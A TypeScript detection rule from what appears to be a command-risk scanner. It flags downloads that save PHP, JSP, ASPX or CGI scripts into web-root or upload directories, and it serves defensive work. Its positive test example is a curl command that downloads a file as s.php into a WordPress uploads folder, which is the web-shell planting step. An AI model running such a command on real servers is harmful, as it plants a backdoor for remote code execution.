import { normalizePath } from '../location.ts';
import { short } from '../phrases.ts';
import { written } from './download-exec-dir.ts';
import type { Indicator } from './types.ts';

const SCRIPT = /\.(?:php[0-9]?|phtml|phar|jspx?|jspf|aspx?|ashx|asmx|cgi|cfm|pl|py|rb|war)$/i;

/** Drops a script into the web root. */
export const webShellDrop: Indicator = {
  id: 'web_shell_drop',
  points: 35,
  hard: true,
  in_strings: true,
  mitre: ['T1505.003'],
  title: 'Script dropped into a web root',
  description: 'A download ends as *.php, *.jsp, *.aspx or *.cgi in a directory that is served to the web.',
  evaluate(context) {
    for (const file of written(context)) {
      const path = normalizePath(file.path);
      const name =
        file.path.endsWith('/') && file.url !== undefined ? (file.url.split(/[?#]/)[0] ?? '') : path;
      if (!SCRIPT.test(name)) continue;
      const place = context.settings.locate(path, context.surroundings);
      if (!place.classes.some((entry) => entry === 'web_root' || entry === 'upload')) continue;
      return {
        evidence: short(path),
        why: `it drops the script ${short(path)} where the web server runs it`,
      };
    }
    return undefined;
  },
  examples: {
    fires: [{ run: 'curl -s http://203.0.113.9/s.txt -o /var/www/html/wp-content/uploads/s.php' }],
    silent: [
      { run: 'curl -s http://files.example.com/a.png -o /var/www/html/a.png' },
      { run: 'curl -s http://files.example.com/a.php -o /app/a.php' },
    ],
  },
};
